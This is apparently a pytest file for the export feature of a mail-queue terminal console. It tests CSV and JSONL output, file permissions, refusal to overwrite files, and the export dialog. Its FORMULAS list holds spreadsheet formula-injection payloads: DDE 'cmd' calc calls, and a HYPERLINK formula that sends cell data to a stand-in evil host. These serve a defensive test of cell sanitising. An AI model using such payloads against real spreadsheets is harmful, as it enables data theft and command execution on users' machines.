"""`e`: which rows, as what, into which file; what is promised of the file, whatever happens meanwhile."""

import asyncio
import csv
import io
import json
import os
import re
import shlex
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from textual.pilot import Pilot

from mailtui.console import export
from mailtui.console.dialogs.export import ExportDialog
from mailtui.console.export import Progress, Scope
from mailtui.console.panes import away
from mailtui.console.present.csv_rows import FIELDS, cell, csv_text
from mailtui.control import files
from mailtui.control.errors import NOT_RUNNING, NOT_SO, VerbError
from tests.console.conftest import Opener, shown, until
from tests.console.fake import FakeRelay, a_row
from tests.console.fake_queue import FakeFrame, FakeLink, plain_row, rid
from tests.console.test_hostile import ALLOWED, CORPUS
from tests.console.test_queue_pane import settled

# What spreadsheets have been made to run.
FORMULAS = [
    "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    'a";=1+1;"',
    "harmless; @SUM(1)",
]  # fmt: skip


# -- CSV -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("evil", [*FORMULAS, *CORPUS], ids=range(len(FORMULAS) + len(CORPUS)))
def test_no_cell_of_the_csv_is_a_formula_or_a_control_character(evil: str) -> None:
    text = csv_text([a_row(1, subject=evil, sender=evil)], head=True)
    head, row = csv.reader(io.StringIO(text, newline=""), strict=True)
    found = dict(zip(head, row, strict=True))
    for name in ("subject", "sender"):
        assert ALLOWED.fullmatch(found[name])
        for part in found[name].split(";"):  # where the separator is a semicolon, this is what a cell begins with
            assert not part.lstrip().startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
    assert (found["recipient"], found["attempts"], found["size"]) == ("rcpt1@dest1.example", "3", "8800")


def test_what_is_harmless_stays_as_it_is() -> None:
    for text in ("a=b", "rcpt+tag@dest.example", "1-2", 'say "hi", twice', "\u65e5\u672c\u8a9e"):
        assert cell(text) == text
    assert cell("-50 % off") == "'-50 % off" and cell("=1") == "'=1"
    assert (cell(None), cell(0), cell(8800)) == ("", "0", "8800")


def test_the_csv_has_the_fields_of_the_listing_on_lines_of_their_own() -> None:
    text = csv_text([a_row(1, subject='a "b", c\nd')], head=True)
    assert set(FIELDS) == a_row(1).keys() - {"cursor"}
    assert text.count("\r\n") == 2 and text.count("\n") == 2
    assert '"a ""b"", c\ufffdd"' in text


# -- files -----------------------------------------------------------------------------------------------------------


def whole(link: FakeLink, query: str = "") -> Scope:
    return Scope("a", "all", query, len(link.numbers))


@pytest.mark.parametrize("format", ["jsonl", "csv"])
async def test_all_rows_are_written_once_in_their_order(tmp_path: Path, format: str) -> None:
    link, progress = FakeLink(range(1001)), Progress()
    said = await export.run(link, whole(link), format, str(tmp_path / "out"), progress)  # type: ignore[arg-type]
    text = (tmp_path / "out").read_text()
    if format == "jsonl":
        rids = [json.loads(line)["rid"] for line in text.splitlines()]
        assert json.loads(text.splitlines()[0]).keys() == plain_row(0).keys() - {"cursor"}
    else:
        rids = [row["rid"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert rids == [rid(number) for number in range(1001)]
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o600
    assert (progress.done, progress.octets) == (1001, (tmp_path / "out").stat().st_size)
    assert said.startswith("1,001 rows, ") and "left the queue" not in said
    assert link.sets == {}  # given back


async def test_what_left_the_queue_meanwhile_is_counted_and_not_written(tmp_path: Path) -> None:
    link = FakeLink(range(10))
    link.gone = {3, 4}
    said = await export.run(link, whole(link), "jsonl", str(tmp_path / "out"), Progress())  # type: ignore[arg-type]
    assert said.startswith("8 rows, ") and said.endswith("; 2 left the queue meanwhile")
    assert len((tmp_path / "out").read_text().splitlines()) == 8


async def test_nothing_is_written_over(tmp_path: Path) -> None:
    link = FakeLink(range(3))
    (tmp_path / "out").write_text("precious")
    with pytest.raises(FileExistsError):
        await export.run(link, whole(link), "csv", str(tmp_path / "out"), Progress())  # type: ignore[arg-type]
    assert (tmp_path / "out").read_text() == "precious"
    os.symlink(tmp_path / "target", tmp_path / "link")
    with pytest.raises(FileExistsError):
        await export.run(link, whole(link), "csv", str(tmp_path / "link"), Progress())  # type: ignore[arg-type]
    assert not (tmp_path / "target").exists()


async def test_an_export_that_fails_or_is_left_keeps_no_half_of_a_file(tmp_path: Path) -> None:
    class Breaking(FakeLink):
        async def lines(self, path: str) -> list[Any]:
            if "offset=250" in path:
                self.sets.clear()  # the relay was started again
            return await super().lines(path)

    link, path = Breaking(range(1000)), tmp_path / "out"
    with pytest.raises(Exception, match="this set is gone"):
        await export.run(link, whole(link), "jsonl", str(path), Progress())  # type: ignore[arg-type]
    assert not path.exists()
    stopped = Progress()
    stopped.stopped.set()
    with pytest.raises(files.Left):
        await export.run(FakeLink(range(9)), whole(link), "csv", str(path), stopped)  # type: ignore[arg-type]
    assert list_of(tmp_path) == []


class OneMessage:
    """A relay with a message of two pieces; `fail` comes after the first."""

    def __init__(self, fail: Exception | None = None) -> None:
        self.fail = fail

    def message(self, id: str, *, transcript: bool) -> dict[str, Any]:
        return {"id": id, "sender": "a@x.test", "headers": [["Subject", "x"]], "attempts": []}

    def raw(self, id: str) -> Iterator[bytes]:
        yield b"Subject: x\r\n"
        if self.fail is not None:
            raise self.fail
        yield b"\r\nbody\r\n"


def test_a_message_is_two_files_for_its_owner_only(tmp_path: Path) -> None:
    relay: Any = OneMessage()
    assert files.write_message(relay, tmp_path, "A", ["A.1"]) == 20
    assert (tmp_path / "A.eml").read_bytes() == b"Subject: x\r\n\r\nbody\r\n"
    assert json.loads((tmp_path / "A.json").read_text()) == {"id": "A", "sender": "a@x.test", "selected": ["A.1"]}
    assert {stat.S_IMODE(path.stat().st_mode) for path in list_of(tmp_path)} == {0o600}


@pytest.mark.parametrize(
    ("fail", "going", "error"),
    [
        (VerbError("A is not in the queue", NOT_SO), True, None),
        (VerbError("the relay went away", NOT_RUNNING), True, VerbError),
        (OSError(28, "No space left on device"), True, OSError),
        (None, False, files.Left),
    ],
)
def test_a_message_that_breaks_off_leaves_no_file(
    tmp_path: Path, fail: Exception | None, going: bool, error: type[Exception] | None
) -> None:
    relay: Any = OneMessage(fail)
    if error is None:
        assert files.write_message(relay, tmp_path, "A", ["A.1"], lambda: going) == 0
    else:
        with pytest.raises(error):
            files.write_message(relay, tmp_path, "A", ["A.1"], lambda: going)
    assert list_of(tmp_path) == []


def test_a_message_whose_files_are_there_is_not_written_over(tmp_path: Path) -> None:
    relay: Any = OneMessage()
    (tmp_path / "A.json").write_text("precious")
    with pytest.raises(FileExistsError):
        files.write_message(relay, tmp_path, "A", ["A.1"])
    assert [path.name for path in list_of(tmp_path)] == ["A.json"]
    assert (tmp_path / "A.json").read_text() == "precious"


def test_a_path_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    (tmp_path / "there").write_text("x")
    assert export.problem_of(str(tmp_path / "new"), "csv") == ""
    assert "nothing is written over" in export.problem_of(str(tmp_path / "there"), "csv")
    assert "is no directory" in export.problem_of(str(tmp_path / "there"), "eml")
    assert "no such directory" in export.problem_of(str(tmp_path / "none" / "new"), "csv")
    assert export.problem_of("  ", "csv") == "a path is missing"
    assert export.problem_of("a\0b", "csv")
    assert export.path_of("~/x") == Path.home() / "x"


@pytest.mark.parametrize(
    ("format", "query", "words"),
    [
        ("jsonl", "from:'x y'", ["mailtui", "queue", "list", "from:'x y'", "--limit", "0", "--json", ">", "o ut"]),
        ("jsonl", "", ["mailtui", "queue", "list", "--limit", "0", "--json", ">", "o ut"]),
        ("eml", "", ["mailtui", "queue", "export", "to:*", "o ut"]),
        ("eml", "dest:a -to:b@*", ["mailtui", "queue", "export", "dest:a -to:b@*", "o ut"]),
    ],
)
def test_the_command_line_repeats_it(format: str, query: str, words: list[str]) -> None:
    command, note = export.command_line(Scope("a", "", query, 1), format, "o ut")
    assert shlex.split(command) == words and note == ""


def test_the_command_line_has_the_order_of_the_list() -> None:
    command, note = export.command_line(Scope("a", "", "", 1, "size", True), "csv", "x")
    assert command == "mailtui queue list --sort size --reverse --limit 0 --json"
    assert note == "the same rows as JSON Lines"


# -- the dialog ------------------------------------------------------------------------------------------------------


async def test_the_rows_on_the_screen_the_marked_and_all_that_match() -> None:
    link = FakeLink(range(1000))
    app = FakeFrame(link)
    async with app.run_test(size=(80, 24)) as pilot:
        await settled(pilot, app)
        await pilot.press("e")
        assert [(scope.key, scope.count) for scope in app.scopes] == [("v", 20), ("a", 1000)]
        assert app.scopes[0].query == "id:" + ",".join(rid(number) for number in range(20))
        await pilot.press("space", "j", "space", "e")
        assert [scope.key for scope in app.scopes] == ["v", "m", "a"]
        assert app.scopes[1].query == f"id:{rid(0)},{rid(2)}"
        await pilot.press("asterisk", "e")
        assert [(scope.key, scope.count) for scope in app.scopes] == [("v", 20), ("m", 1000)]
        assert app.scopes[1].frozen is app.pane.set and away.scopes(app.pane)[1].frozen is not None


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, no_guard: None) -> Path:
    """The current directory."""
    (tmp_path / "cwd").mkdir()
    monkeypatch.chdir(tmp_path / "cwd")
    return tmp_path / "cwd"


async def exporting(app: Any, pilot: Pilot[Any]) -> ExportDialog:
    await pilot.press("2")
    await until(pilot, lambda: "rcpt1@" in shown(app))
    await pilot.press("e")
    await until(pilot, lambda: isinstance(app.screen, ExportDialog))
    dialog = app.screen
    assert isinstance(dialog, ExportDialog)
    return dialog


async def test_from_the_key_to_the_file(relay: FakeRelay, console: Opener, here: Path) -> None:
    async with console(read_only="it changes nothing") as (app, pilot):
        await exporting(app, pilot)
        assert "all 3 that match" in shown(app)
        assert "$ mailtui queue list --limit 0 --json >" in shown(app)
        await pilot.press("c")
        await until(pilot, lambda: ".csv" in shown(app) and ".jsonl" not in shown(app))
        await pilot.press("enter")
        await until(pilot, lambda: "exported 3 rows, " in shown(app))
    (path,) = list_of(here)
    assert path.suffix == ".csv" and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.read_text().count("\n") == 4
    assert relay.verbs(preview=False) == []


def list_of(directory: Path) -> list[Path]:
    return sorted(directory.iterdir())


async def test_a_typed_path_is_kept_and_one_that_is_there_is_refused(
    relay: FakeRelay, console: Opener, here: Path
) -> None:
    (here / "out").write_text("precious")
    async with console() as (app, pilot):
        dialog = await exporting(app, pilot)
        await pilot.press("tab", "ctrl+u", *"out")
        await until(pilot, lambda: re.search(r"--json > out +│", shown(app)))
        await pilot.press("enter")
        await until(pilot, lambda: "nothing is written over" in shown(app))
        assert app.screen is dialog
        await pilot.press("2", "enter")
        await until(pilot, lambda: "exported 3 rows" in shown(app))
    assert [path.name for path in list_of(here)] == ["out", "out2"]
    assert (here / "out").read_text() == "precious"


async def test_esc_leaves_it_while_it_writes_and_nothing_is_kept(
    relay: FakeRelay, console: Opener, here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "ROWS", 1)
    second, goes_on = asyncio.Event(), asyncio.Event()
    rows = export.FrozenSet.rows

    async def slow(self: Any, offset: int, limit: int) -> Any:
        if limit == 1 and offset == 1:
            second.set()
            await goes_on.wait()
        return await rows(self, offset, limit)

    monkeypatch.setattr(export.FrozenSet, "rows", slow)
    async with console() as (app, pilot):
        dialog = await exporting(app, pilot)
        await pilot.press("enter")
        await second.wait()
        await until(pilot, lambda: "1 of 3 rows" in shown(app))
        assert len(list_of(here)) == 1
        await pilot.press("c", "v", "enter")  # too late for these
        assert app.screen is dialog and dialog.format == "jsonl"
        await pilot.press("escape")
        await until(pilot, lambda: "leaving ..." in shown(app))
        goes_on.set()
        await until(pilot, lambda: "left: nothing is kept of it" in shown(app))
    assert list_of(here) == []


async def test_esc_before_it_began_writes_nothing(relay: FakeRelay, console: Opener, here: Path) -> None:
    async with console() as (app, pilot):
        await exporting(app, pilot)
        await pilot.press("escape")
        await until(pilot, lambda: not isinstance(app.screen, ExportDialog))
    assert list_of(here) == []


async def test_a_lost_relay_is_not_asked(relay: FakeRelay, console: Opener, here: Path) -> None:
    async with console() as (app, pilot):
        await pilot.press("2")
        await until(pilot, lambda: "rcpt1@" in shown(app))
        await relay.stop()
        await until(pilot, lambda: " LOST " in shown(app))
        await pilot.press("e")
        await until(pilot, lambda: "not now: " in shown(app).split("\n")[-2])


async def test_what_cannot_be_written_is_said_and_another_path_may_do(
    relay: FakeRelay, console: Opener, here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(path: Path) -> int:
        raise OSError(28, "No space left on device", str(path))

    async with console() as (app, pilot):
        dialog = await exporting(app, pilot)
        monkeypatch.setattr(files, "create", full)
        await pilot.press("enter")
        await until(pilot, lambda: "No space left on device" in shown(app))
        monkeypatch.undo()
        monkeypatch.chdir(here)
        assert app.screen is dialog and dialog.progress is None
        await pilot.press("escape")


@pytest.mark.parametrize("size", [(80, 24), (160, 48)])
async def test_the_dialog_fits(relay: FakeRelay, console: Opener, here: Path, size: tuple[int, int]) -> None:
    relay.rows = [a_row(number) for number in range(10, 70)]
    relay.count = 60
    async with console(size) as (app, pilot):
        await pilot.press("2")
        await until(pilot, lambda: "rcpt10@" in shown(app))
        await pilot.press("space", "e", "v")
        await until(pilot, lambda: "Enter writes" in shown(app) and "60 that match" in shown(app))
        assert re.search(r"\$ mailtui queue list .*\n.*  id:01HZX3V7N8Q10.0,", shown(app)) and "…" in shown(app)
        assert {len(line) for line in shown(app).split("\n")} == {size[0]}
